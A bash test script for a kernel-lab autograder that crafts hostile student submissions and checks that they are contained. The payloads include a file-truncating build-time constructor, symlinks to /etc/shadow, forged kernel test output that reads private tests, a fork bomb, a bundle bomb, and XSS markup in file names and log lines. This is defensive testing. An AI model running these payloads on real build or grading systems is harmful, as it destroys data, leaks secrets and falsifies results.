# A hostile class, graded the way the samples are: each submission attacks
# the grader (or is an honest mistake that looks like an attack) and must
# get the verdict a correct grader gives. Honest students are graded right
# after an attacker in the same slot (JOBS=1) and must score what the kit's
# reference figures say; no file outside the work and output folders may
# change; the instructor's private tests leak into nothing a student gets
# back; grading the class again with JOBS=2 gives the same gradebook, and
# the honest students graded beside the attackers the same grades,
# feedback and files. Text with markup comes in by every route a student
# has (a compiler line, a console line, a line their benchmark prints, a
# commit subject, a file name, a folder name) and must come out inert in
# every output, a real browser included. Labs 4 and 5 are tried by
# students who want their points without the work, on the labs' own
# runners.
# (tests/91-grade.t has the intake and confinement classes: secrets by
# #include, a Makefile, broken folders.) The attackers are made on base,
# so that their builds are short.
# shellcheck shell=bash source=tests/lib.sh disable=SC2015
. "$(dirname "$0")/lib.sh"
T=$TESTS_OUT/hostile
rm -rf "$T"
C=$T/class
mkdir -p "$C"
row() { grep "^$2," "$1/gradebook.csv"; }
status() { cell "$1" "$2" status; }
# (From the student's status file: the gradebook quotes a field with commas.)
flags() { meta_value "$1/students/$2/status" flags; }
total() { cell "$1" "$2" total; }
expected() { awk -v s="$1" '$1 == s { print $3 }' "$KIT/grading/samples-expect"; }

# Submissions are made in a scratch worktree and handed in as patches.
W=$T/wt
git -C "$LINUX" worktree prune
git -C "$LINUX" worktree add -q --detach "$W" base
last=$(basename "$(find "$KIT/solutions" -mindepth 1 -maxdepth 1 -type d -name '[0-9][0-9]-*' | sort | tail -n 1)" | cut -c1-2)
# series NAME REF [COMMAND ARG...]: the commit REF, plus one commit made by
# COMMAND run in the worktree, as a patch series from base.
series() {
	local name=$1 ref=$2
	shift 2
	git -C "$W" reset -q --hard && git -C "$W" clean -qfd && git -C "$W" checkout -q --detach "$ref"
	if [ $# -gt 0 ]; then
		(cd "$W" && "$@")
		kit_git -C "$W" add -A
		kit_git -C "$W" commit -q -m "$name"
	fi
	mkdir -p "$C/$name"
	kit_git -C "$W" format-patch -q -o "$C/$name" "base..HEAD"
}

# What a symlink or a stray write could reach on the host, listed before
# the class and after it: the kit's shared compiler cache, the home
# folder, the files the attackers aim at, the kit's own files.
shared=${CCACHE_DIR:-${XDG_CACHE_HOME:-$HOME/.cache}/bpfloop-lab/ccache}
probe=$HOME/.bpfloop-hostile-$$
snapshot() {
	find "$shared" -newer "$T/start" -print 2>/dev/null | head -n 20
	find "$HOME" -maxdepth 1 -newer "$T/start" -print 2>/dev/null | grep -v "^$HOME/.cache$"
	ls -la --time-style=+%s /etc/hostname /etc/shadow 2>&1
	git -C "$KIT" status --porcelain --untracked-files=all | grep -v '^?? work/'
}

# 1. The slot poisoner: a constructor in tools/include/uapi/linux/bpf.h,
# which the kernel build compiles into a host tool (resolve_btfids) and
# runs at link time. It plants a link where the host takes the kernel's
# files from, leaves a broken object dated in the future for the next
# build in the slot, overwrites every file of its compiler cache in place,
# and tries the shared cache and the home folder.
poison='
#ifndef __KERNEL__
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <unistd.h>
static void bpfloop_spoil(const char *dir, int depth)
{
	DIR *d = depth < 4 ? opendir(dir) : NULL;
	struct dirent *e;
	char path[4096];
	int fd;

	while (d && (e = readdir(d))) {
		if (e->d_name[0] == 0x2e)
			continue;
		snprintf(path, sizeof(path), "%.2000s/%.255s", dir, e->d_name);
		if (e->d_type == DT_DIR) {
			bpfloop_spoil(path, depth + 1);
		} else if (e->d_type == DT_REG) {
			fd = open(path, O_WRONLY | O_TRUNC);
			if (fd >= 0) {
				(void)!write(fd, "poison", 6);
				close(fd);
			}
		}
	}
	if (d)
		closedir(d);
}
static void __attribute__((constructor)) bpfloop_poison(void)
{
	struct timeval tv[2] = { { 4000000000, 0 }, { 4000000000, 0 } };
	const char *cache = getenv("CCACHE_DIR");
	int fd;

	unlink("System.map");
	(void)!symlink("/etc/hostname", "System.map");
	fd = open("kernel/bpf/helpers.o", O_WRONLY | O_TRUNC);
	if (fd >= 0) {
		(void)!write(fd, "poison", 6);
		close(fd);
	}
	utimes("kernel/bpf/helpers.o", tv);
	if (cache)
		bpfloop_spoil(cache, 0);
	fd = open("SHARED/poisoned", O_WRONLY | O_CREAT, 0644);
	if (fd >= 0)
		close(fd);
	fd = open("HOSTPROBE", O_WRONLY | O_CREAT, 0644);
	if (fd >= 0)
		close(fd);
}
#endif
'
poison=${poison//SHARED/$shared}
# append FILE TEXT: TEXT at the end of FILE.
append() { printf '%s\n' "$2" >>"$1"; }
# in_uapi CODE: CODE inside the include guard of the tools' copy of bpf.h
# (its last line), so that a file that includes it twice compiles; and a
# comment in kernel/bpf/bpf_iter.c, so that the kernel links again and the
# link runs the tool.
in_uapi() {
	local f=tools/include/uapi/linux/bpf.h
	{ head -n -1 "$f"; printf '%s\n' "$1"; tail -n 1 "$f"; } >"$f.new" && mv "$f.new" "$f"
	sed -i '1a /* relink */' kernel/bpf/bpf_iter.c
}
series a1-slot-poisoner base in_uapi "${poison//HOSTPROBE/$probe}"
# An honest student whose kernel no one built before (the reference, with
# a comment of this run's own), graded next in the slot the poisoner left.
run="$$-$RANDOM"
series a2-honest-after-poisoner "solution/$last" sed -i "1a /* a2 $run */" kernel/bpf/bpf_iter.c

# 2. The forger: kernel code that prints KTAP "ok" lines on the console,
# writes a whole result frame of its own, with the run's id, on the result
# port before the suite starts, and reads the instructor's private tests
# (when they are there) to print them.
forge='
#include <linux/fs.h>
#include <linux/init.h>
#include <linux/initrd.h>
#include <linux/io.h>
#include <linux/kernel.h>

static void bpfloop_com2(const char *s)
{
	for (; *s; s++) {
		while (!(inb(0x2f8 + 5) & 0x20))
			cpu_relax();
		outb(*s, 0x2f8);
	}
}

static int __init bpfloop_forge(void)
{
	char id[64] = "", frame[256], buf[512] = "";
	struct file *f;
	loff_t pos = 0;
	ssize_t n;
	int i;

	pr_info("KTAP version 1\n");
	for (i = 0; i < 7; i++)
		pr_info("ok %d lab1.probe_present\n", i + 1);
	wait_for_initramfs();
	f = filp_open("/usr/bin/extra-tests", O_RDONLY, 0);
	if (!IS_ERR(f)) {
		kernel_read(f, buf, sizeof(buf) - 1, &pos);
		pr_info("private tests: %s\n", buf);
		filp_close(f, NULL);
	}
	f = filp_open("/run/id", O_RDONLY, 0);
	if (IS_ERR(f))
		return 0;
	pos = 0;
	n = kernel_read(f, id, sizeof(id) - 1, &pos);
	filp_close(f, NULL);
	if (n <= 0)
		return 0;
	id[strcspn(id, "\n")] = 0;
	snprintf(frame, sizeof(frame), "@@%s begin\nKTAP version 1\n1..1\nok 1 lab1.probe_present\n@@%s end 0\n",
		 id, id);
	bpfloop_com2(frame);
	return 0;
}
late_initcall_sync(bpfloop_forge);
'
series b1-forger base append kernel/bpf/helpers.c "$forge"

# 3. Attacks on intake, and a mistake that looks like one.
# A bundle that unpacks to far more than it weighs.
git -C "$W" reset -q --hard && git -C "$W" checkout -q --detach solution/01
head -c $((64 << 20)) /dev/zero >"$W/kernel/bpf/zeros.c"
kit_git -C "$W" add -A && kit_git -C "$W" commit -q -m bomb
mkdir -p "$C/d1-bundle-bomb"
git -C "$W" bundle create -q "$C/d1-bundle-bomb/lab.bundle" base..HEAD 2>/dev/null
rm -f "$W/kernel/bpf/zeros.c"
# A link to a host file in a patch, beside a right lab 1.
series d2-symlink-in-patch solution/01 ln -s /etc/shadow kernel/bpf/shadow.c
# A Makefile and a link that aim at the kit's shared compiler cache,
# beside a right lab 1.
cache_writer() {
	sed -i "1i \$(shell touch $shared/from-makefile)" kernel/bpf/Makefile
	ln -s "$shared" kernel/bpf/ccache.c
}
series d4-cache-writer solution/01 cache_writer
# Too many files.
mkdir -p "$C/d3-many-files"
for i in $(seq 1 250); do printf 'x\n' >"$C/d3-many-files/$(printf '%04d' "$i")-x.patch"; done

# 4. A fork bomb in the build's host tool: it forks until refused (at most
# 5000), keeping every child, then fails the tool.
bomb='
#ifndef __KERNEL__
#include <stdio.h>
#include <unistd.h>
static void __attribute__((constructor)) bpfloop_forks(void)
{
	int n;

	for (n = 0; n < 5000; n++) {
		pid_t p = fork();

		if (p == 0)
			for (;;)
				pause();
		if (p < 0) {
			fprintf(stderr, "bpfloop-forks: fork refused after %d processes\n", n);
			_exit(1);
		}
	}
	fprintf(stderr, "bpfloop-forks: 5000 processes, no limit\n");
	_exit(1);
}
#endif
'
series e1-fork-bomb base in_uapi "$bomb"
# Right after it in the slot: a right lab 1 with an initcall it does not
# need (an honest mistake that looks like an attack): graded in full, and
# flagged for a person to read.
series e2-flagged-after-fork-bomb solution/01 append kernel/bpf/helpers.c \
	"$(printf '\n/* e2 %s */\nstatic int __init bpfloop_hello(void)\n{\n\treturn 0;\n}\nlate_initcall(bpfloop_hello);' "$run")"
# 5. Text that reaches the reports, by each route a student has: a
# compiler line, a kernel console line, a line their benchmark prints, a
# commit subject, a file name, a folder name. Each holds markup that would
# run or load something if a page took it as HTML or Markdown, and a
# number of its own to find it by. (Program and map names cannot carry
# markup: the kernel takes only letters, digits, '_' and '.' in them.)
# (A script or handler that ran would mark the page's body.)
# shellcheck disable=SC2016 # the backticks are the markup
mark() {
	printf '<script>document.body.setAttribute(%s)</script><img src=x onerror=document.body.setAttribute(%s)> `x`{=html} [j](javascript:alert(%s)) ![p](http://127.0.0.1:9/%s.png)' \
		"'data-ran','$1'" "'data-ran','$1'" "$1" "$1"
}
# before FILE PATTERN TEXT: TEXT (lines) before the first line matching
# PATTERN.
before() { ADD=$3 awk -v pat="$2" '!done && $0 ~ pat { print ENVIRON["ADD"]; done = 1 } { print }' "$1" >"$1.new" && mv "$1.new" "$1"; }
# A compiler error line: does-not-build.
series t1-compiler-line base before kernel/bpf/bpf_iter.c '^// SPDX' "#error \"$(mark 11)\""
# A kernel console line: a kernel that panics with it when a program is
# test-run (the suite's first test does that).
series t2-console-line base before kernel/bpf/syscall.c 'if \\(CHECK_ATTR\\(BPF_PROG_TEST_RUN\\)\\)' \
	"	panic(\"$(mark 12)\");"
# A line the benchmark prints: the reference, with a summary of its own.
bench_line() {
	local f=tools/testing/selftests/bpf/benchs/bench_bpf_loop.c
	before "$f" '^const struct bench bench_bpf_loop = \{' \
		"$(printf 'static void marked_summary(struct bench_res res[], int res_cnt)\n{\n\tprintf("Summary: %%s\\n", "%s");\n}\n' "$(mark 13)")" &&
		sed -i 's/^\t\.report_final = ops_report_final,$/\t.report_final = marked_summary,/' "$f"
}
series t3-benchmark-line "solution/$last" bench_line
# A commit subject and a file name, in a patch that does not apply, from a
# folder whose name is Markdown's strong emphasis.
mkdir -p "$C/__t4-strong__"
{
	printf 'From 0000000000000000000000000000000000000000 Mon Sep 17 00:00:00 2001\n'
	printf 'From: A Student <student@example.com>\nDate: Sat, 5 Dec 2026 10:00:00 +0000\n'
	printf 'Subject: [PATCH] %s\n\n---\n' "$(mark 14)"
	f='kernel/bpf/<script>alert(15)<b>.c'
	printf 'diff --git a/%s b/%s\n--- a/%s\n+++ b/%s\n@@ -1 +1 @@\n-a\n+b\n--\n2.39.5\n' "$f" "$f" "$f" "$f"
} >"$C/__t4-strong__/0001-x.patch"
git -C "$LINUX" worktree remove --force "$W" 2>/dev/null || true

# The instructor's private test, worth nothing, with a token to look for.
token="private-$$-$RANDOM$RANDOM"
printf '#!/bin/sh\n# %s\necho "KTAP version 1"\necho "1..1"\necho "# running extra.secret"\necho "ok 1 extra.secret"\n' \
	"$token" >"$T/extra"
chmod +x "$T/extra"
cp "$KIT/grading/instructor/rubric" "$T/rubric"
echo "extra.secret 0 0" >>"$T/rubric"

touch "$T/start"
sleep 1
before=$(snapshot)
ts=$(now)
make -s -C "$KIT" grade SUBMISSIONS="$C" OUT="$T/out" JOBS=1 RUBRIC="$T/rubric" EXTRA_TESTS="$T/extra" \
	>"$T/grade.log" 2>&1
check "hostile: the class is graded (exit 0)" test $? = 0
echo "# the hostile class (JOBS=1) took $(elapsed "$ts")"
O=$T/out
S=$O/students

# 1. The poisoner, and the student after it.
[ "$(status "$O" a1-slot-poisoner)" = does-not-build ] && grep -q 'other than plain files' "$S/a1-slot-poisoner/status" &&
	pass "hostile: a link planted where the kernel's files are taken from is refused (does-not-build)" ||
	fail "hostile: a link planted where the kernel's files are taken from is refused (does-not-build)" "$(row "$O" a1-slot-poisoner)"
[[ $(flags "$O" a1-slot-poisoner) == *flagged* ]] && pass "hostile: ... and its constructor is flagged" ||
	fail "hostile: ... and its constructor is flagged" "$(row "$O" a1-slot-poisoner)"
ref=$(expected reference)
# (It is the reference series with a comment: marked as the reference's
# for every lab, and with no integrity flag.)
[ "$(status "$O" a2-honest-after-poisoner)" = graded ] && [ "$(total "$O" a2-honest-after-poisoner)" = "$ref" ] &&
	[ "$(flags "$O" a2-honest-after-poisoner)" = "reference:$(seq -s, 1 "$((10#$last))")" ] &&
	grep -q 'CC *kernel/bpf/bpf_iter.o' "$S/a2-honest-after-poisoner/build.log" &&
	pass "hostile: the honest student, built next in the poisoner's slot, scores the reference's $ref" ||
	fail "hostile: the honest student, built next in the poisoner's slot, scores the reference's $ref" \
		"$(row "$O" a2-honest-after-poisoner)"
[ ! -e "$probe" ] && [ ! -e "$shared/poisoned" ] && pass "hostile: code run by the build reaches no host file" ||
	fail "hostile: code run by the build reaches no host file"
rm -f "$probe" "$shared/poisoned"

# 2. The forger.
[ "$(status "$O" b1-forger)" = graded ] && [[ $(flags "$O" b1-forger) == *tampered* ]] &&
	[[ $(flags "$O" b1-forger) == *flagged* ]] &&
	pass "hostile: a kernel that writes a frame of its own on the result port is tampered, and flagged" ||
	fail "hostile: a kernel that writes a frame of its own on the result port is tampered, and flagged" "$(row "$O" b1-forger)"
[ "$(awk -F'\t' '$2 == 1 && $3 == "pass"' "$S/b1-forger/scores.tsv" | wc -l)" = 0 ] &&
	grep -q 'ok 7 lab1.probe_present' "$S/b1-forger/console.log" &&
	pass "hostile: ... and its 'ok' lines (on the console and on the port) gain not one lab 1 point" ||
	fail "hostile: ... and its 'ok' lines (on the console and on the port) gain not one lab 1 point" \
		"$(awk -F'\t' '$2 == 1' "$S/b1-forger/scores.tsv")"
# The forger's kernel read the private tests in their boot and printed
# them: not a byte reaches what the student gets back.
if [ -f "$S/b1-forger/feedback.md" ] &&
	! grep -qF "$token" "$S/b1-forger/feedback.md" "$S/b1-forger/feedback.html" "$S/b1-forger/console.log" \
		"$S/b1-forger/results.ktap" 2>/dev/null; then
	pass "hostile: no byte of the private tests reaches the student's feedback, console or results"
else
	fail "hostile: no byte of the private tests reaches the student's feedback, console or results"
fi
grep -rqF "$token" "$S/b1-forger/private" && pass "hostile: ... though the kernel printed them, in the private boot's console" ||
	fail "hostile: ... though the kernel printed them, in the private boot's console"

# 3. Intake.
[ "$(status "$O" d1-bundle-bomb)" = does-not-apply ] && grep -q 'would unpack to' "$S/d1-bundle-bomb/status" &&
	pass "hostile: a bundle that unpacks to 64 MB of changed files is refused before any checkout" ||
	fail "hostile: a bundle that unpacks to 64 MB of changed files is refused before any checkout" "$(row "$O" d1-bundle-bomb)"
[ "$(status "$O" d2-symlink-in-patch)" = graded ] && [ "$(total "$O" d2-symlink-in-patch)" = "$(expected only-lab1)" ] &&
	grep -q 'kernel/bpf/shadow.c: not a regular file' "$S/d2-symlink-in-patch/feedback.md" &&
	pass "hostile: a link to a host file in a patch is left out, said, and the rest graded" ||
	fail "hostile: a link to a host file in a patch is left out, said, and the rest graded" "$(row "$O" d2-symlink-in-patch)"
[ "$(status "$O" d4-cache-writer)" = graded ] && [ "$(total "$O" d4-cache-writer)" = "$(expected only-lab1)" ] &&
	grep -q 'kernel/bpf/Makefile: outside the files' "$S/d4-cache-writer/feedback.md" &&
	grep -q 'kernel/bpf/ccache.c: not a regular file' "$S/d4-cache-writer/feedback.md" && [ ! -e "$shared/from-makefile" ] &&
	pass "hostile: a Makefile and a link aimed at the shared compiler cache are left out, said, and the rest graded" ||
	fail "hostile: a Makefile and a link aimed at the shared compiler cache are left out, said, and the rest graded" \
		"$(row "$O" d4-cache-writer)"
[ "$(status "$O" d3-many-files)" = invalid ] && pass "hostile: a folder of 250 files is refused at intake" ||
	fail "hostile: a folder of 250 files is refused at intake" "$(row "$O" d3-many-files)"

# 4. The fork bomb, and the student after it.
[ "$(status "$O" e1-fork-bomb)" = does-not-build ] && grep -q 'bpfloop-forks: fork refused after' "$S/e1-fork-bomb/build.log" &&
	grep -q 'ran at its limit of [0-9]* processes' "$S/e1-fork-bomb/status" &&
	pass "hostile: a fork bomb in the build meets the process limit and is stopped: does-not-build, with the reason" ||
	fail "hostile: a fork bomb in the build meets the process limit and is stopped: does-not-build, with the reason" \
		"$(row "$O" e1-fork-bomb)" "$(grep -m1 bpfloop-forks "$S/e1-fork-bomb/build.log")" "$(grep reason "$S/e1-fork-bomb/status")"
pgrep -f resolve_btfids >/dev/null && fail "hostile: ... and leaves no process behind" "$(pgrep -af resolve_btfids | head -n 3)" ||
	pass "hostile: ... and leaves no process behind"
lab1=$(expected only-lab1)
[ "$(status "$O" e2-flagged-after-fork-bomb)" = graded ] && [ "$(total "$O" e2-flagged-after-fork-bomb)" = "$lab1" ] &&
	[ "$(flags "$O" e2-flagged-after-fork-bomb)" = "flagged reference:1" ] &&
	grep -q 'CC *kernel/bpf/helpers.o' "$S/e2-flagged-after-fork-bomb/build.log" &&
	pass "hostile: a right lab 1 with an initcall it does not need, graded after the bomb: $lab1 points, flagged" ||
	fail "hostile: a right lab 1 with an initcall it does not need, graded after the bomb: $lab1 points, flagged" \
		"$(row "$O" e2-flagged-after-fork-bomb)"
expect_grep "hostile: the summary shows the flagged line" 'late_initcall\(bpfloop_hello\)' "$O/summary.md"

# 5. The text routes: each the verdict it earns, its text shown as text.
[ "$(status "$O" t1-compiler-line)" = does-not-build ] && grep -qF "'data-ran','11'" "$S/t1-compiler-line/feedback.md" &&
	pass "hostile text: a compiler line with markup: does-not-build, the line in the feedback" ||
	fail "hostile text: a compiler line with markup: does-not-build, the line in the feedback" "$(row "$O" t1-compiler-line)"
[ "$(status "$O" t2-console-line)" = graded ] &&
	[ "$(awk -F'\t' '$1 == "lab0.bpf_syscall" { print $3 }' "$S/t2-console-line/scores.tsv")" = crash ] &&
	grep -qF "'data-ran','12'" "$S/t2-console-line/feedback.md" &&
	pass "hostile text: a kernel that panics with markup: its test crashes, the console's line in the feedback" ||
	fail "hostile text: a kernel that panics with markup: its test crashes, the console's line in the feedback" \
		"$(row "$O" t2-console-line)" "$(grep -m1 lab0.bpf_syscall "$S/t2-console-line/scores.tsv")"
want=$(awk -v r="$(expected reference)" 'BEGIN { print r - 3 }')
[ "$(status "$O" t3-benchmark-line)" = graded ] && [ "$(total "$O" t3-benchmark-line)" = "$want" ] &&
	grep -qF "'data-ran','13'" "$S/t3-benchmark-line/feedback.md" &&
	pass "hostile text: a benchmark that prints markup as its summary: the reference's points less format and agreement ($want)" ||
	fail "hostile text: a benchmark that prints markup as its summary: the reference's points less format and agreement ($want)" \
		"$(row "$O" t3-benchmark-line)" "$(grep -m2 'lab5.report' "$S/t3-benchmark-line/scores.tsv")"
[ "$(status "$O" __t4-strong__)" = does-not-apply ] && grep -qF 'alert(15)' "$S/__t4-strong__/feedback.md" &&
	grep -qF '__t4-strong__' "$S/__t4-strong__/feedback.html" && ! grep -q '<strong>t4-strong</strong>' "$O"/index.html "$S"/*/feedback.html &&
	pass "hostile text: a file name and a folder name with markup: does-not-apply, both shown as they are" ||
	fail "hostile text: a file name and a folder name with markup: does-not-apply, both shown as they are" "$(row "$O" __t4-strong__)"
bad=""
for n in t1-compiler-line t2-console-line t3-benchmark-line __t4-strong__; do
	grep -qF '&lt;script&gt;' "$S/$n/feedback.html" || bad="$bad $n"
done
[ -z "$bad" ] && pass "hostile text: each one's markup is text in its page" ||
	fail "hostile text: each one's markup is text in its page" "not in:$bad"
check "hostile text: no page of the class runs or loads anything (linkcheck --inert-only)" \
	"$BIN/linkcheck" --inert-only "$O/index.html" "$S"/*/feedback.html
check "hostile text: results.json is valid JSON" jq -e . "$O/results.json"
check "hostile text: junit.xml is well-formed" xmllint --noout "$O/junit.xml"
if grep -q '[<>]' "$O/results.json" || grep -qi '<script\|javascript:alert([0-9]*)</a' "$O/junit.xml"; then
	fail "hostile text: JSON and JUnit carry the markup only escaped" "$(grep -m2 '[<>]' "$O/results.json")"
else
	pass "hostile text: JSON and JUnit carry the markup only escaped"
fi
if awk -F, 'NR > 1 && $1 ~ /^"?[=+@-]/' "$O/gradebook.csv" | grep -q .; then
	fail "hostile text: no cell of gradebook.csv starts as a formula" "$(awk -F, 'NR > 1 && $1 ~ /^"?[=+@-]/' "$O/gradebook.csv")"
else
	pass "hostile text: no cell of gradebook.csv starts as a formula"
fi
# In a real browser, with every request sent where nothing listens.
if command -v chromium >/dev/null; then
	ran=""
	for page in index.html students/t1-compiler-line/feedback.html students/t2-console-line/feedback.html \
		students/t3-benchmark-line/feedback.html students/__t4-strong__/feedback.html; do
		timeout 120 env HOME="$T/browser" XDG_CONFIG_HOME="$T/browser" XDG_CACHE_HOME="$T/browser" \
			chromium --headless --no-sandbox --disable-gpu --no-first-run --user-data-dir="$T/browser" \
			--proxy-server=127.0.0.1:9 --proxy-bypass-list='<-loopback>' --dump-dom "file://$O/$page" \
			>"$T/browsed.html" 2>>"$T/browser.log"
		grep -q '</body>' "$T/browsed.html" || ran="$ran $page(not loaded)"
		grep -q 'data-ran=' "$T/browsed.html" && ran="$ran $page(script ran)"
		grep -o '<img[^>]*>' "$T/browsed.html" | grep -qv 'src="scores.svg"' && ran="$ran $page(image)"
		grep -q '<a href="javascript:' "$T/browsed.html" && ran="$ran $page(script link)"
	done
	[ -z "$ran" ] && pass "hostile text: in headless chromium, offline, no script or handler runs and nothing but the plot is an image" ||
		fail "hostile text: in headless chromium, offline, no script or handler runs and nothing but the plot is an image" "$ran"
else
	fail "hostile text: chromium is installed (lib/packages lists it; run make deps)"
fi

after=$(snapshot)
[ "$before" = "$after" ] && pass "hostile: the shared compiler cache, the home folder, the host's files and the kit are as they were" ||
	fail "hostile: the shared compiler cache, the home folder, the host's files and the kit are as they were" \
		"$(diff <(echo "$before") <(echo "$after"))"

# 6. Points without the work, on the host-side labs' own runners (the
# ones make grade runs for labs 4 and 5). Lab 4: the reference's
# conversions with callbacks cut short (one frame walked, one string read):
# they load, call bpf_loop and scale, and compute the wrong thing, so none
# of those points is theirs: lab 4 gives them lab4.builds alone.
# labpoints RESULTS LAB: the default points of the tests that passed.
labpoints() {
	awk -v lab="$2" 'NR == FNR { if ($0 !~ /^#/ && $2 == lab) pts[$1] = $3; next }
		$2 == "pass" { sum += pts[$1] } END { print sum + 0 }' "$KIT/grading/tests.list" FS='\t' "$1"
}
PROGS=tools/testing/selftests/bpf/progs
lazy4=$T/lab4-lazy
mkdir -p "$lazy4/$PROGS"
for f in pyperf600_bpf_loop.c strobemeta_bpf_loop.c pyperf.h strobemeta.h; do
	git -C "$LINUX" show "solution/04:$PROGS/$f" >"$lazy4/$PROGS/$f"
done
sed -i 's|^\t/\* Past the last frame every iteration would do nothing: stop. \*/$|\tif (i)\n\t\treturn 1;\n&|' \
	"$lazy4/$PROGS/pyperf.h"
sed -i 's/if (i >= STROBE_MAX_STRS)/if (i >= 1)/' "$lazy4/$PROGS/strobemeta.h"
if grep -q '^	if (i)$' "$lazy4/$PROGS/pyperf.h" && grep -q 'if (i >= 1)' "$lazy4/$PROGS/strobemeta.h"; then
	"$KIT/grading/lab4/run-lab4" --quiet --tree "$lazy4" --out "$T/lab4-run" >/dev/null 2>&1
	r4=$T/lab4-run/results.tsv
	for id in pyperf600_walks_stack strobemeta_reads_values; do
		expect_verdict "hostile lab 4: callbacks cut short compute the wrong thing ($id fails)" "$r4" "lab4.$id" fail
	done
	for id in pyperf600_loads pyperf600_calls_loop pyperf600_scale strobemeta_loads strobemeta_calls_loop \
		strobemeta_scale; do
		expect_grep "hostile lab 4: ... so lab4.$id, which rests on the program computing right, fails too" \
			"^lab4.$id"$'\tfail\t.*does not compute' "$r4"
	done
	[ "$(labpoints "$r4" 4)" = 1 ] && pass "hostile lab 4: ... and the lab scores 1 point (lab4.builds), not 7" ||
		fail "hostile lab 4: ... and the lab scores 1 point (lab4.builds), not 7" "$(labpoints "$r4" 4) points: $r4"
else
	fail "hostile lab 4: the cut-short callbacks are made from the reference" "$lazy4/$PROGS"
fi
# Lab 5: the reference benchmark that never attaches its program and
# prints a summary of its own, well-formed and self-consistent.
lazy5=$T/lab5-lazy/tools/testing/selftests/bpf
mkdir -p "$lazy5/progs" "$lazy5/benchs"
git -C "$LINUX" show "solution/05:tools/testing/selftests/bpf/progs/bpf_loop_bench.c" >"$lazy5/progs/bpf_loop_bench.c"
git -C "$LINUX" show "solution/05:tools/testing/selftests/bpf/benchs/bench_bpf_loop.c" |
	sed 's/bpf_loop_bench__attach(skel)/0/; s/\.report_final = ops_report_final,/.report_final = made_up,/;
		/^const struct bench bench_bpf_loop = {/i\
static void made_up(struct bench_res res[], int res_cnt)\
{\
	printf("Summary: throughput %8.3lf \\u00b1 %5.3lf M ops/s (%7.3lfM ops/prod), latency %8.3lf ns/op\\n",\
	       50.0, 0.5, 50.0, 20.0);\
}\
' >"$lazy5/benchs/bench_bpf_loop.c"
if grep -q 'made_up' "$lazy5/benchs/bench_bpf_loop.c" && ! grep -q '__attach(skel)' "$lazy5/benchs/bench_bpf_loop.c"; then
	"$KIT/grading/lab5/run-lab5" --quiet --tree "$T/lab5-lazy" --out "$T/lab5-run" >/dev/null 2>&1
	r5=$T/lab5-run/results.tsv
	expect_verdict "hostile lab 5: a benchmark that prints a summary of its own builds" "$r5" lab5.builds pass
	expect_verdict "hostile lab 5: ... and fails lab5.runs: its program never ran" "$r5" lab5.runs fail
	expect_grep "hostile lab 5: ... so its well-formed summary does not earn lab5.report_format" \
		$'^lab5.report_format\tfail\t.*the summary lines are upstream.s, but the runs behind it' "$r5"
	[ "$(labpoints "$r5" 5)" = 1 ] && pass "hostile lab 5: ... and the lab scores 1 point (lab5.builds), not 2" ||
		fail "hostile lab 5: ... and the lab scores 1 point (lab5.builds), not 2" "$(labpoints "$r5" 5) points: $r5"
else
	fail "hostile lab 5: the made-up summary is made from the reference" "$lazy5/benchs/bench_bpf_loop.c"
fi

# The same class again, with two workers: the same gradebook.
ts=$(now)
make -s -C "$KIT" grade SUBMISSIONS="$C" OUT="$T/again" JOBS=2 RUBRIC="$T/rubric" EXTRA_TESTS="$T/extra" \
	>"$T/again.log" 2>&1
echo "# the hostile class again (JOBS=2) took $(elapsed "$ts")"
if cmp -s "$O/gradebook.csv" "$T/again/gradebook.csv"; then
	pass "hostile: graded again with JOBS=2, the gradebook is the same"
else
	fail "hostile: graded again with JOBS=2, the gradebook is the same" "$(diff "$O/gradebook.csv" "$T/again/gradebook.csv")"
fi
# An attacker and a victim side by side: under JOBS=2 the poisoner, the
# fork bomb and the panicking kernel are graded beside the others, and
# each honest student's grade, feedback (its measured figures aside) and
# files are what they were under JOBS=1, and no file outside the work and
# output folders changed.
bad=""
for v in a2-honest-after-poisoner e2-flagged-after-fork-bomb d2-symlink-in-patch d4-cache-writer t3-benchmark-line; do
	a=$S/$v b=$T/again/students/$v
	cmp -s <(cut -f1,3,4 "$a/scores.tsv") <(cut -f1,3,4 "$b/scores.tsv") || bad="$bad $v(scores)"
	cmp -s <(sed -E 's/[0-9]+([.,][0-9]+)*/N/g' "$a/feedback.md") <(sed -E 's/[0-9]+([.,][0-9]+)*/N/g' "$b/feedback.md") ||
		bad="$bad $v(feedback)"
	cmp -s <(cd "$a" && find . -maxdepth 1 | sort) <(cd "$b" && find . -maxdepth 1 | sort) || bad="$bad $v(files)"
done
[ -z "$bad" ] && pass "hostile: beside the attackers (JOBS=2), the honest students' grades, feedback and files are as under JOBS=1" ||
	fail "hostile: beside the attackers (JOBS=2), the honest students' grades, feedback and files are as under JOBS=1" "$bad"
after=$(snapshot)
[ "$before" = "$after" ] && pass "hostile: ... and after JOBS=2 too, the shared cache, home, host files and kit are as they were" ||
	fail "hostile: ... and after JOBS=2 too, the shared cache, home, host files and kit are as they were" \
		"$(diff <(echo "$before") <(echo "$after"))"
